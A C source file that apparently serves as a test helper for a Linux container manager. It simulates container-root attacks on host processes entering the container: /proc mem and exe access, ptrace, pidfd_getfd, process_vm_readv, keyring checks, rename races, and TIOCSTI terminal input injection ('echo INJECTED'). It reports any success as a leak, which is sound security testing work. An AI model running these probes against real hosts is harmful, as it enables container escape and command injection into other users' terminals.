// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * What somebody who is root in an unprivileged container (or shares its files, or holds its keys)
 * would run. Static, so that it runs in any root file system. One word, one attack:
 *
 *   peek              watch for processes that enter the container and have not executed their
 *                     command yet: stop each, try everything that would give away the host, let it
 *                     go. "seen" for the first one, "LEAK what" for each success. Ends at end of
 *                     file of stdin.
 *   freeze            the same, but only stop them, and never let them go
 *   with-key CMD...   execute CMD with a secret in a session keyring of its own
 *   read-key          is the secret in our session keyring?
 *   swap A B          exchange two names for ever (renameat2)
 *   immortal CMD...   forget the death signal, ignore all others, execute CMD
 *   tiocsti           push a line into every terminal that can be reached
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/keyctl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define SECRET "lxc-privsep-secret"

static int read_comm(int pid, char *text, size_t size)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, size - 1);
	if (fd >= 0)
		close(fd);
	text[n > 0 ? n : 0] = 0;
	return n > 0 ? 0 : -1;
}

/* Its name is still that of the program of the host. */
static int entering(int pid)
{
	char comm[64];
	return read_comm(pid, comm, sizeof(comm)) == 0 &&
	       (strcmp(comm, "lxc-supervisor\n") == 0 || strcmp(comm, "lxc-ls\n") == 0 ||
		strncmp(comm, "lxc-start\n", 10) == 0 || strncmp(comm, "lxc-execute\n", 12) == 0);
}

static void leak(int pid, const char *what)
{
	if (entering(pid)) {
		printf("LEAK %s\n", what);
		fflush(stdout);
	}
}

/*
 * exec(2) changes the memory before it closes what is close-on-exec: for that moment the process is
 * ours to look at, with everything that is still open. One more than the standard three is the
 * socket over which a failure of exec is reported; it leads to nothing of the host.
 */
static void try_descriptors(int pid)
{
	char path[64], list[1024] = "";
	int more = 0;
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	DIR *dir = opendir(path);
	if (!dir)
		return;
	for (struct dirent *entry; (entry = readdir(dir));)
		if (atoi(entry->d_name) > 2) {
			more++;
			strncat(list, " ", sizeof(list) - strlen(list) - 1);
			strncat(list, entry->d_name, sizeof(list) - strlen(list) - 1);
		}
	closedir(dir);
	if (more > 1) {
		printf("LEAK descriptors%s\n", list);
		fflush(stdout);
	}
}

static void try_files(int pid)
{
	static const struct {
		const char *name;
		int flags;
	} files[] = { { "mem", O_RDONLY },    { "mem", O_RDWR },       { "environ", O_RDONLY },
		      { "maps", O_RDONLY },   { "auxv", O_RDONLY },    { "exe", O_RDONLY },
		      { "exe", O_WRONLY },    { "cwd", O_RDONLY },     { "root", O_RDONLY },
		      { "ns/mnt", O_RDONLY }, { "ns/user", O_RDONLY }, { "stack", O_RDONLY },
		      { "syscall", O_RDONLY } };
	char path[64], byte;
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i].name);
		int fd = open(path, files[i].flags | O_NONBLOCK);
		/* Some open for everybody and refuse to be read. */
		if (fd >= 0 && (read(fd, &byte, 1) > 0 || errno == EISDIR || errno == EIO ||
				(files[i].flags & O_ACCMODE) == O_WRONLY))
			leak(pid, path + 6);
		if (fd >= 0)
			close(fd);
	}
}

static void try_calls(int pid)
{
	char byte;
	struct iovec here = { &byte, 1 }, there = { (void *)environ, 1 };
	if (process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
		leak(pid, "process_vm_readv");
	pid_t tracer = fork(); /* its end is the only sure way to let go */
	if (tracer == 0) {
		if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0)
			leak(pid, "ptrace");
		_exit(0);
	}
	waitpid(tracer, NULL, 0);
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int n = 0; n < 64 && pidfd >= 0; n++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
		if (fd >= 0) {
			leak(pid, "pidfd_getfd");
			close(fd);
		}
	}
	if (pidfd >= 0)
		close(pidfd);
}

static int watch(int release)
{
	struct pollfd in = { .fd = 0, .events = POLLIN };
	int seen = 0;
	printf("ready\n");
	fflush(stdout);
	while (poll(&in, 1, 0) == 0) {
		DIR *dir = opendir("/proc");
		for (struct dirent *entry; (entry = readdir(dir));) {
			int pid = atoi(entry->d_name);
			if (pid <= 1 || pid == getpid() || !entering(pid))
				continue;
			kill(pid, SIGSTOP);
			if (!seen++) {
				printf("seen\n");
				fflush(stdout);
			}
			if (!release)
				continue;
			for (int i = 0; i < 10; i++)
				try_descriptors(pid);
			try_files(pid);
			try_calls(pid);
			kill(pid, SIGCONT);
		}
		closedir(dir);
	}
	return 0;
}

static int with_key(char **argv)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
	    syscall(SYS_add_key, "user", SECRET, SECRET, strlen(SECRET), KEY_SPEC_SESSION_KEYRING) <
		0)
		return perror("session keyring"), 1;
	execvp(argv[0], argv);
	return perror(argv[0]), 1;
}

static int read_key(void)
{
	char text[64] = "";
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", SECRET, 0);
	if (key >= 0 && syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof(text)) >= 0)
		printf("LEAK %s\n", text);
	else
		printf("no key\n");
	return 0;
}

static int swap(const char *a, const char *b)
{
	printf("ready\n");
	fflush(stdout);
	while (getppid() != 1)
		renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
	return 0;
}

static int immortal(char **argv)
{
	prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
	for (int n = 1; n < NSIG; n++)
		signal(n, SIG_IGN);
	execvp(argv[0], argv);
	return 1;
}

static int push_input(void)
{
	static const char line[] = "echo INJECTED\n";
	static const char *const names[] = { "/dev/tty", "/dev/console", "/proc/self/fd/0",
					     "/proc/self/fd/1", "/proc/self/fd/2" };
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]) + 3; i++) {
		int fd = i < 3 ? (int)i : open(names[i - 3], O_RDWR | O_NOCTTY);
		char paste[] = { 3, 0 }; /* TIOCLINUX: paste the selection */
		for (const char *at = line; fd >= 0 && *at; at++)
			ioctl(fd, TIOCSTI, at);
		if (fd >= 0)
			ioctl(fd, TIOCLINUX, paste);
		ioctl(fd, TIOCNOTTY);
		ioctl(fd, TIOCSCTTY, 1);
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	if (strcmp(what, "peek") == 0)
		return watch(1);
	if (strcmp(what, "freeze") == 0)
		return watch(0);
	if (strcmp(what, "with-key") == 0 && argc > 2)
		return with_key(argv + 2);
	if (strcmp(what, "read-key") == 0)
		return read_key();
	if (strcmp(what, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	if (strcmp(what, "immortal") == 0 && argc > 2)
		return immortal(argv + 2);
	if (strcmp(what, "tiocsti") == 0)
		return push_input();
	fprintf(stderr, "container-attacks: which attack?\n");
	return 2;
}
